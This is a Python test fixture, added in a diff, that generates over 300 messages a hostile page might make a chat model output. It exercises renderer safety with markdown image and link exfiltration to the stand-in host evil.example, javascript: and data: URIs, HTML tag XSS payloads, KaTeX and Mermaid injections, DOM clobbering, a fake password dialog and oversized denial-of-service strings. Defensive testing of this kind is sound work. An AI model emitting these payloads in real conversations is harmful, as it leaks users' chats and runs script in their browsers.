@@ -1,0 +1,202 @@
+"""Words that a hostile page may have put into a model's mouth, by what carries them: more than 300 messages."""
+
+from collections.abc import Iterator
+
+FOREIGN = (
+    "https://evil.example/{}",
+    "http://evil.example/{}",
+    "//evil.example/{}",
+    "HTTPS://EVIL.example/{}",
+    "https:\\\\evil.example\\{}",
+    "https://127.0.0.1:1/{}",
+    "https://user:word@evil.example/{}",
+    "https://evil.example:443/{}?q=the%20whole%20chat#top",
+    "ftp://evil.example/{}",
+    "ws://evil.example/{}",
+)
+ACTING = (
+    "javascript:window.owned=1//{}",
+    "JaVaScRiPt:window.owned=1//{}",
+    "java&#10;script:window.owned=1//{}",
+    "javascript&colon;window.owned=1//{}",
+    "&#106;avascript:window.owned=1//{}",
+    "%6aavascript:window.owned=1//{}",
+    "\\x01javascript:window.owned=1//{}",
+    "vbscript:window.owned=1//{}",
+    "data:text/html,<script>window.owned=1</script>{}",
+    "data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==",
+    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'/>{}",
+    "blob:https://evil.example/{}",
+    "file:///etc/passwd#{}",
+    "view-source:https://evil.example/{}",
+    "intent://evil.example/{}#Intent;scheme=https;end",
+)
+CARRIERS = {
+    "image": "![a]({u})",
+    "image with a title": '![a]({u} "b")',
+    "image by reference": "![a][r]\n\n[r]: {u}",
+    "link": "[a]({u})",
+    "link by reference": "[a][r]\n\n[r]: <{u}>",
+    "link around an image": "[![a]({u})]({u})",
+    "in angle brackets": "<{u}>",
+    "bare": "see {u} now",
+    "footnote": "word[^1]\n\n[^1]: ![a]({u})",
+    "table": "| a |\n|---|\n| ![a]({u}) [b]({u}) |",
+    "list in a quote": "> - [ ] ![a]({u})\n>   1. [b]({u})",
+    "heading, bold": "## **![a]({u})** ~~[b]({u})~~",
+    "half open": "**[a]({u}",
+}
+TAGS = (
+    '<img src="{u}" onerror="window.owned=1">',
+    "<img src=x onerror=window.owned=1>",
+    '<img srcset="{u} 2x" src=x>',
+    '<picture><source srcset="{u}"><img src=x></picture>',
+    '<svg onload="window.owned=1"><image href="{u}"/></svg>',
+    '<svg><use href="{u}#a"/><script>window.owned=1</script></svg>',
+    '<svg><a xlink:href="javascript:window.owned=1"><text y=9>a</text></a></svg>',
+    '<svg><animate attributeName=href values="javascript:window.owned=1"/></svg>',
+    "<svg><foreignObject><iframe src=javascript:window.owned=1></iframe></foreignObject></svg>",
+    '<math href="javascript:window.owned=1">a</math>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
+    "<script>window.owned=1</script>",
+    '<script src="{u}"></script>',
+    '<script type="module">import "{u}"</script>',
+    "<scr<script>ipt>window.owned=1</scr</script>ipt>",
+    "<noscript><p title='</noscript><img src=x onerror=window.owned=1>'>",
+    "<style>@import '{u}';*{background:url({u})}</style>",
+    '<p style="background:url({u})">a</p>',
+    '<link rel="stylesheet" href="{u}">',
+    '<link rel="preload" as="image" href="{u}">',
+    '<link rel="dns-prefetch" href="{u}">',
+    '<base href="{u}">',
+    '<meta http-equiv="refresh" content="0;url={u}">',
+    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
+    '<iframe src="{u}"></iframe>',
+    '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
+    '<frameset><frame src="{u}"></frameset>',
+    '<object data="{u}"></object>',
+    '<embed src="{u}">',
+    '<applet code="{u}"></applet>',
+    '<video src="{u}" poster="{u}" autoplay onloadstart="window.owned=1"></video>',
+    '<audio src="{u}" autoplay></audio>',
+    '<track src="{u}">',
+    '<form action="{u}"><input name=a autofocus onfocus="window.owned=1"><button>Send</button></form>',
+    '<button formaction="javascript:window.owned=1">press</button>',
+    '<input type="image" src="{u}">',
+    '<isindex action="{u}">',
+    "<details open ontoggle=window.owned=1><summary>a</summary></details>",
+    "<marquee onstart=window.owned=1>a</marquee>",
+    "<body onload=window.owned=1 background='{u}'>",
+    '<a href="javascript:window.owned=1">a</a>',
+    '<a href="{u}" ping="{u}" target="_top">a</a>',
+    "<x onclick=window.owned=1 tabindex=1 onfocus=window.owned=1 autofocus>a</x>",
+    '<div id="composer"></div><div id="root"></div><div name="body"></div>',
+    '<a id="session"></a><img name="document" src=x>',
+    "<template><img src=x onerror=window.owned=1></template>",
+    "<textarea></textarea><img src=x onerror=window.owned=1>",
+    "<![CDATA[<img src=x onerror=window.owned=1>]]>",
+    "<?xml-stylesheet href='{u}'?>",
+    "<!--><img src=x onerror=window.owned=1>-->",
+    "<table background='{u}'><td background='{u}'>a</table>",
+    '<portal src="{u}"></portal>',
+    '<dialog open>Your password, please: <input type="password"></dialog>',
+)
+CODE = (
+    "```html\n<script>window.owned=1</script>\n```",
+    '```"><script>window.owned=1</script>\ncode\n```',
+    "```javascript onclick=window.owned=1\ncode\n```",
+    "```__proto__\ncode\n```",
+    "```constructor\ncode\n```",
+    "```../../../etc/passwd\ncode\n```",
+    "```" + "a" * 2_000 + "\ncode\n```",
+    "````\n```\n<img src=x onerror=window.owned=1>\n````",
+    "`<img src=x onerror=window.owned=1>`",
+    "```svg\n<svg onload=window.owned=1>\n```",
+    "~~~\n</code></pre><script>window.owned=1</script>\n~~~",
+    "```ansi\n\x1b]8;;https://evil.example\x07a\x1b]8;;\x07\n```",
+)
+MATHS = (
+    "$$\\href{javascript:window.owned=1}{x}$$",
+    "$$\\href{https://evil.example/m}{x}$$",
+    "$$\\url{javascript:window.owned=1}$$",
+    "$$\\includegraphics[height=1em]{https://evil.example/m.png}$$",
+    "$$\\htmlStyle{background:url(https://evil.example/m)}{x}$$",
+    "$$\\htmlId{composer}{x}$$",
+    "$$\\htmlClass{fixed inset-0}{x}$$",
+    "$$\\htmlData{a=b}{x}$$",
+    "$$\\def\\a{\\a\\a}\\a$$",
+    "$$\\newcommand{\\b}{\\b\\b}\\b$$",
+    "$$\\gdef\\frac#1#2{owned}$$ then $$\\frac{1}{2}$$",
+    "$$\\rule{99999em}{99999em}$$",
+    "$$\\kern99999em x$$",
+    "$$\\color{red;background:url(https://evil.example/m)}{x}$$",
+    "$$\\text{<img src=x onerror=window.owned=1>}$$",
+    "$$" + "{" * 800 + "}" * 800 + "$$",
+    "$$" + "x^{" * 300 + "1" + "}" * 300 + "$$",
+    "\\(<script>window.owned=1</script>\\)",
+    "\\[\\unicode{x3c}script\\unicode{x3e}\\]",
+    "$$\\char\"110000$$",
+)
+MERMAID = (
+    'graph TD\nA["<img src=https://evil.example/d.png>"]',
+    'graph TD\nA["<img src=x onerror=window.owned=1>"] --> B',
+    'graph TD\nA-->B\nclick A "javascript:window.owned=1"',
+    'graph TD\nA-->B\nclick A href "https://evil.example/d" _top',
+    "graph TD\nA-->B\nclick A call window.owned()",
+    '%%{init: {"securityLevel":"loose","flowchart":{"htmlLabels":true}}}%%\ngraph TD\nA["<script>window.owned=1</script>"]',
+    '%%{init: {"themeCSS":"*{background:url(https://evil.example/d)}"}}%%\ngraph TD\nA-->B',
+    '---\nconfig:\n  themeCSS: "*{background:url(https://evil.example/d)}"\n---\ngraph TD\nA-->B',
+    '---\nconfig:\n  htmlLabels: true\n  securityLevel: loose\n---\ngraph TD\nA["<iframe src=https://evil.example></iframe>"]',
+    'graph TD\nA@{ img: "https://evil.example/d.png", label: "a" }',
+    'graph TD\nA@{ icon: "evil:a", form: "square" }',
+    "graph TD\nclassDef a fill:url(https://evil.example/d)\nA:::a",
+    "graph TD\nstyle A background-image:url(https://evil.example/d)\nA-->B",
+    "sequenceDiagram\nA->>B: <img src=https://evil.example/d.png>\nlink A: a @ https://evil.example",
+    "classDiagram\nclass A\nlink A \"javascript:window.owned=1\"",
+    'gantt\nsection a\nb: c, 2024-01-01, 1d\nclick c href "javascript:window.owned=1"',
+    "pie title <script>window.owned=1</script>\n\"a\": 1",
+    "mindmap\n  root((<img src=https://evil.example/d.png>))",
+    "graph TD\n" + "A-->B\n" * 3_000,
+    "no diagram at all <img src=x onerror=window.owned=1>",
+)
+LONG = (
+    "*" * 5_000,
+    "[" * 3_000,
+    "![" * 2_000,
+    "<" * 5_000,
+    "> " * 300 + "deep",
+    "".join("  " * depth + "- deeper\n" for depth in range(80)),
+    "|" + " a |" * 500 + "\n|" + "---|" * 500 + "\n|" + " b |" * 500,
+    "_*" * 2_000 + "a" + "*_" * 2_000,
+    "`" * 3_001,
+    "$" * 3_001,
+    "a" * 50_000,
+    "\\" * 5_000,
+    "&#x" + "0" * 5_000 + "41;",
+    "[a]: " + "b" * 5_000 + "\n" + "[a]" * 1_000,
+    "[^a]: [^a]\n\n[^a]",
+    "\n" * 5_000 + "after much of nothing",
+    "Z\u0351\u036b\u0343\u036a" * 500,
+    "\u202eevil.example\u202c \u2066a\u2069 \u200b\ufeff\u00ad",
+    "\ufffd\ufffe\U000e0041 \U0001f468\u200d\U0001f469\u200d\U0001f467 \ud7ff",
+    "https://evil.example/" + "a" * 5_000,
+)
+
+
+def every_message() -> Iterator[str]:
+    """Each with a mark at its end, `end of N`, which must be on the page whatever stood before it."""
+    for number, words in enumerate(_all()):
+        yield f"{words}\n\nend of {number}"
+
+
+def _all() -> Iterator[str]:
+    for number, url in enumerate((*FOREIGN, *ACTING)):
+        for carrier in CARRIERS.values():
+            yield carrier.replace("{u}", url.replace("{}", str(number)))
+    for tag in TAGS:
+        yield tag.replace("{u}", "https://evil.example/t")
+    yield from CODE
+    yield from MATHS
+    for diagram in MERMAID:
+        yield f"```mermaid\n{diagram}\n```"
+    yield from LONG
